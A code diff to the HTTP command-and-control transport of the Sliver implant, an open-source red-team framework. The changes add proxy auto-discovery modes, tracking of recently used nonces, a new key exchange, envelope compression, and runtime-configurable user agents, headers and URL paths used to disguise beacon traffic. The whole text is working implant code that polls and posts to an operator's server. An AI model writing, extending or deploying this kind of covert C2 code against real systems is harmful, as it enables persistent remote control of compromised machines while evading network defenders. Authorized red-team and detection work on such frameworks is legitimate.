@@ -39,15 +39,31 @@ import (
 
 	// {{end}}
 
+	"github.com/bishopfox/sliver/implant/sliver/compression"
 	"github.com/bishopfox/sliver/implant/sliver/cryptography"
 	"github.com/bishopfox/sliver/implant/sliver/encoders"
+	// {{if .Config.ConfigKeySource}}
+	"github.com/bishopfox/sliver/implant/sliver/runtimeconfig"
+	// {{end}}
 	pb "github.com/bishopfox/sliver/protobuf/sliverpb"
 	"google.golang.org/protobuf/proto"
 )
 
+const (
+	// maxRecentNonces - Number of recently used nonces that won't be reused, the
+	// server rejects requests that reuse a nonce within its replay window
+	maxRecentNonces = 4096
+)
+
 var (
 	goHTTPDriver = "go"
 
+	// Proxy modes, "auto" discovers proxies with WPAD/PAC files, "manual"
+	// only uses statically configured proxies, "none" connects directly
+	proxyModeAuto   = "auto"
+	proxyModeManual = "manual"
+	proxyModeNone   = "none"
+
 	userAgent      = "{{GenerateUserAgent}}"
 	nonceQueryArgs = "{{.HTTPC2ImplantConfig.NonceQueryArgs}}" // "abcdefghijklmnopqrstuvwxyz"
 
@@ -76,9 +92,14 @@ type HTTPOptions struct {
 	HostHeader           string
 
 	ProxyConfig   string
+	ProxyMode     string
 	ProxyUsername string
 	ProxyPassword string
 	AskProxyCreds bool
+
+	// ClientCertThumbprint - Certificate store certificate presented by
+	// the native drivers instead of the implant's own (Windows only)
+	ClientCertThumbprint string
 }
 
 // ParseHTTPOptions - Parse c2 specific configuration options
@@ -103,6 +124,13 @@ func ParseHTTPOptions(c2URI *url.URL) *HTTPOptions {
 	if driverName == "" {
 		driverName = goHTTPDriver
 	}
+	proxyMode := strings.TrimSpace(strings.ToLower(c2URI.Query().Get("proxy-mode")))
+	if c2URI.Query().Get("proxy") == "never" {
+		proxyMode = proxyModeNone
+	}
+	if proxyMode != proxyModeManual && proxyMode != proxyModeNone {
+		proxyMode = proxyModeAuto
+	}
 
 	return &HTTPOptions{
 		Driver:               driverName,
@@ -116,14 +144,22 @@ func ParseHTTPOptions(c2URI *url.URL) *HTTPOptions {
 		HostHeader:           c2URI.Query().Get("host-header"),
 
 		ProxyConfig:   c2URI.Query().Get("proxy"),
+		ProxyMode:     proxyMode,
 		ProxyUsername: c2URI.Query().Get("proxy-username"),
 		ProxyPassword: c2URI.Query().Get("proxy-password"),
 		AskProxyCreds: c2URI.Query().Get("ask-proxy-creds") == "true",
+
+		ClientCertThumbprint: c2URI.Query().Get("client-cert"),
 	}
 }
 
 // HTTPStartSession - Attempts to start a session with a given address
 func HTTPStartSession(address string, pathPrefix string, opts *HTTPOptions) (*SliverHTTPClient, error) {
+	// {{if .Config.ConfigKeySource}}
+	userAgent = runtimeconfig.HTTP().UserAgent
+	nonceQueryArgs = runtimeconfig.HTTP().NonceQueryArgs
+	// {{end}}
+
 	var client *SliverHTTPClient
 	var err error
 	if !opts.ForceHTTP {
@@ -171,22 +207,26 @@ type SliverHTTPClient struct {
 	Closed     bool
 
 	Options *HTTPOptions
+
+	nonceMutex   sync.Mutex
+	usedNonces   map[uint64]bool
+	recentNonces []uint64
 }
 
 // SessionInit - Initialize the session
 func (s *SliverHTTPClient) SessionInit() error {
 	sKey := cryptography.RandomSymmetricKey()
-	s.SessionCtx = cryptography.NewCipherContext(sKey)
 	httpSessionInit := &pb.HTTPSessionInit{Key: sKey[:]}
 	data, _ := proto.Marshal(httpSessionInit)
 
-	encryptedSessionInit, err := cryptography.AgeKeyExToServer(data)
+	encryptedSessionInit, kemSharedKey, err := cryptography.KeyExToServer(data)
 	if err != nil {
 		// {{if .Config.Debug}}
-		log.Printf("Nacl encrypt failed %v", err)
+		log.Printf("Key exchange encrypt failed %v", err)
 		// {{end}}
 		return err
 	}
+	s.SessionCtx = cryptography.NewCipherContext(cryptography.SessionKey(sKey, kemSharedKey))
 	err = s.establishSessionID(encryptedSessionInit)
 	if err != nil {
 		return err
@@ -194,6 +234,28 @@ func (s *SliverHTTPClient) SessionInit() error {
 	return nil
 }
 
+// randomEncoder - Get a random encoder and a nonce that wasn't used recently
+func (s *SliverHTTPClient) randomEncoder(size int) (uint64, encoders.Encoder) {
+	s.nonceMutex.Lock()
+	defer s.nonceMutex.Unlock()
+	if s.usedNonces == nil {
+		s.usedNonces = map[uint64]bool{}
+	}
+	for {
+		nonce, encoder := encoders.RandomEncoder(size)
+		if s.usedNonces[nonce] {
+			continue
+		}
+		if maxRecentNonces <= len(s.recentNonces) {
+			delete(s.usedNonces, s.recentNonces[0])
+			s.recentNonces = s.recentNonces[1:]
+		}
+		s.usedNonces[nonce] = true
+		s.recentNonces = append(s.recentNonces, nonce)
+		return nonce, encoder
+	}
+}
+
 // NonceQueryArgument - Adds a nonce query argument to the URL
 func (s *SliverHTTPClient) NonceQueryArgument(uri *url.URL, value uint64) *url.URL {
 	values := uri.Query()
@@ -256,6 +318,16 @@ func (s *SliverHTTPClient) newHTTPRequest(method string, uri *url.URL, body io.R
 		},
 		// {{end}}
 	}
+	// {{if .Config.ConfigKeySource}}
+	for _, header := range runtimeconfig.HTTP().Headers {
+		extraHeaders = append(extraHeaders, nameValueProbability{
+			Name:        header.Name,
+			Value:       header.Value,
+			Probability: strconv.Itoa(int(header.Probability)),
+			Methods:     header.Methods,
+		})
+	}
+	// {{end}}
 	for _, header := range extraHeaders {
 		// Empty array means all methods (backwards compatibility)
 		if len(header.Methods) > 0 {
@@ -281,6 +353,15 @@ func (s *SliverHTTPClient) newHTTPRequest(method string, uri *url.URL, body io.R
 		{Name: "{{$param.Name}}", Value: "{{$param.Value}}", Probability: "{{$param.Probability}}"},
 		// {{end}}
 	}
+	// {{if .Config.ConfigKeySource}}
+	for _, param := range runtimeconfig.HTTP().URLParameters {
+		extraURLParams = append(extraURLParams, nameValueProbability{
+			Name:        param.Name,
+			Value:       param.Value,
+			Probability: strconv.Itoa(int(param.Probability)),
+		})
+	}
+	// {{end}}
 	queryParams := req.URL.Query()
 	for _, param := range extraURLParams {
 		probability, _ := strconv.Atoi(param.Probability)
@@ -328,6 +409,11 @@ func (s *SliverHTTPClient) DoPoll(req *http.Request) (*http.Response, []byte, er
 	var err error
 	go func() {
 		resp, err = s.driver.Do(req.WithContext(ctx))
+		if resp != nil && resp.Body != nil {
+			// Streaming drivers hold a request handle until the body is
+			// closed, so it must be closed even if the poll is cancelled
+			defer resp.Body.Close()
+		}
 		select {
 		case <-ctx.Done():
 			done <- ctx.Err()
@@ -339,7 +425,6 @@ func (s *SliverHTTPClient) DoPoll(req *http.Request) (*http.Response, []byte, er
 		default:
 			if err == nil && resp != nil {
 				data, err = io.ReadAll(resp.Body)
-				defer resp.Body.Close()
 			}
 			// {{if .Config.Debug}}
 			if err != nil {
@@ -355,7 +440,7 @@ func (s *SliverHTTPClient) DoPoll(req *http.Request) (*http.Response, []byte, er
 // We do our own POST here because the server doesn't have the
 // session key yet.
 func (s *SliverHTTPClient) establishSessionID(sessionInit []byte) error {
-	nonce, encoder := encoders.RandomEncoder(0)
+	nonce, encoder := s.randomEncoder(0)
 	payload, _ := encoder.Encode(sessionInit)
 	reqBody := bytes.NewReader(payload)
 
@@ -374,6 +459,7 @@ func (s *SliverHTTPClient) establishSessionID(sessionInit []byte) error {
 		// {{end}}
 		return err
 	}
+	defer resp.Body.Close()
 	if resp.StatusCode != http.StatusOK {
 		serverDateHeader := resp.Header.Get("Date")
 		if serverDateHeader != "" {
@@ -382,6 +468,7 @@ func (s *SliverHTTPClient) establishSessionID(sessionInit []byte) error {
 			serverTime, err := time.Parse(time.RFC1123, serverDateHeader)
 			if err == nil {
 				TimeDelta = serverTime.UTC().Sub(curTime)
+				cryptography.ServerTimeDelta = TimeDelta
 			}
 		}
 		// {{if .Config.Debug}}
@@ -396,7 +483,6 @@ func (s *SliverHTTPClient) establishSessionID(sessionInit []byte) error {
 		// {{end}}
 		return err
 	}
-	defer resp.Body.Close()
 	data, err := encoder.Decode(respData)
 	if err != nil {
 		// {{if .Config.Debug}}
@@ -427,7 +513,7 @@ func (s *SliverHTTPClient) ReadEnvelope() (*pb.Envelope, error) {
 		return nil, errors.New("no session")
 	}
 	uri := s.pollURL()
-	nonce, encoder := encoders.RandomEncoder(0)
+	nonce, encoder := s.randomEncoder(0)
 	s.NonceQueryArgument(uri, nonce)
 	req := s.newHTTPRequest(http.MethodGet, uri, nil)
 	// {{if .Config.Debug}}
@@ -469,6 +555,10 @@ func (s *SliverHTTPClient) ReadEnvelope() (*pb.Envelope, error) {
 		if err != nil {
 			return nil, err
 		}
+		err = compression.Decompress(envelope)
+		if err != nil {
+			return nil, err
+		}
 		return envelope, nil
 	}
 
@@ -483,7 +573,7 @@ func (s *SliverHTTPClient) WriteEnvelope(envelope *pb.Envelope) error {
 	if s.Closed {
 		return ErrClosed
 	}
-	data, err := proto.Marshal(envelope)
+	data, err := proto.Marshal(compression.Compress(envelope))
 	if err != nil {
 		// {{if .Config.Debug}}
 		log.Printf("[http] failed to encode request: %s", err)
@@ -502,7 +592,7 @@ func (s *SliverHTTPClient) WriteEnvelope(envelope *pb.Envelope) error {
 	}
 
 	uri := s.sessionURL()
-	nonce, encoder := encoders.RandomEncoder(len(reqData))
+	nonce, encoder := s.randomEncoder(len(reqData))
 	s.NonceQueryArgument(uri, nonce)
 	encodedValue, _ := encoder.Encode(reqData)
 	reader := bytes.NewReader(encodedValue)
@@ -522,6 +612,7 @@ func (s *SliverHTTPClient) WriteEnvelope(envelope *pb.Envelope) error {
 		// {{end}}
 		return err
 	}
+	defer resp.Body.Close()
 	if resp.StatusCode != http.StatusAccepted {
 		// {{if .Config.Debug}}
 		log.Printf("[http] non-202 response (%d): %v", resp.StatusCode, resp)
@@ -550,7 +641,7 @@ func (s *SliverHTTPClient) CloseSession() error {
 
 	// Tell server session is closed
 	uri := s.closeURL()
-	nonce, _ := encoders.RandomEncoder(0)
+	nonce, _ := s.randomEncoder(0)
 	s.NonceQueryArgument(uri, nonce)
 	req := s.newHTTPRequest(http.MethodGet, uri, nil)
 	// {{if .Config.Debug}}
@@ -563,6 +654,7 @@ func (s *SliverHTTPClient) CloseSession() error {
 		// {{end}}
 		return err
 	}
+	defer resp.Body.Close()
 	if resp.StatusCode != http.StatusAccepted {
 		// {{if .Config.Debug}}
 		log.Printf("[http] non-202 response (%d): %v", resp.StatusCode, resp)
@@ -598,15 +690,24 @@ func (s *SliverHTTPClient) pollURL() *url.URL {
 		"{{.}}",
 		// {{end}}
 	}
+	ext := "{{.HTTPC2ImplantConfig.PollFileExt}}"
+	// {{if .Config.ConfigKeySource}}
+	profile := runtimeconfig.HTTP()
+	segments, filenames, ext = profile.PollPaths, profile.PollFiles, profile.PollFileExt
+	// {{end}}
 
-	curl.Path = s.pathJoinURL(s.randomPath(segments, filenames, "{{.HTTPC2ImplantConfig.PollFileExt}}"))
+	curl.Path = s.pathJoinURL(s.randomPath(segments, filenames, ext))
 	return curl
 }
 
 func (s *SliverHTTPClient) startSessionURL() *url.URL {
 	sessionURI := s.sessionURL()
-	uri := strings.TrimSuffix(sessionURI.String(), "{{ .HTTPC2ImplantConfig.SessionFileExt }}")
-	uri += "{{ .HTTPC2ImplantConfig.StartSessionFileExt }}"
+	sessionExt, startSessionExt := "{{ .HTTPC2ImplantConfig.SessionFileExt }}", "{{ .HTTPC2ImplantConfig.StartSessionFileExt }}"
+	// {{if .Config.ConfigKeySource}}
+	sessionExt, startSessionExt = runtimeconfig.HTTP().SessionFileExt, runtimeconfig.HTTP().StartSessionFileExt
+	// {{end}}
+	uri := strings.TrimSuffix(sessionURI.String(), sessionExt)
+	uri += startSessionExt
 	curl, _ := url.Parse(uri)
 	return curl
 }
@@ -623,7 +724,12 @@ func (s *SliverHTTPClient) sessionURL() *url.URL {
 		"{{.}}",
 		// {{end}}
 	}
-	curl.Path = s.pathJoinURL(s.randomPath(segments, filenames, "{{.HTTPC2ImplantConfig.SessionFileExt}}"))
+	ext := "{{.HTTPC2ImplantConfig.SessionFileExt}}"
+	// {{if .Config.ConfigKeySource}}
+	profile := runtimeconfig.HTTP()
+	segments, filenames, ext = profile.SessionPaths, profile.SessionFiles, profile.SessionFileExt
+	// {{end}}
+	curl.Path = s.pathJoinURL(s.randomPath(segments, filenames, ext))
 	return curl
 }
 
@@ -640,8 +746,13 @@ func (s *SliverHTTPClient) closeURL() *url.URL {
 		"{{.}}",
 		// {{end}}
 	}
+	ext := "{{.HTTPC2ImplantConfig.CloseFileExt}}"
+	// {{if .Config.ConfigKeySource}}
+	profile := runtimeconfig.HTTP()
+	segments, filenames, ext = profile.ClosePaths, profile.CloseFiles, profile.CloseFileExt
+	// {{end}}
 
-	curl.Path = s.pathJoinURL(s.randomPath(segments, filenames, "{{.HTTPC2ImplantConfig.CloseFileExt}}"))
+	curl.Path = s.pathJoinURL(s.randomPath(segments, filenames, ext))
 	return curl
 }
 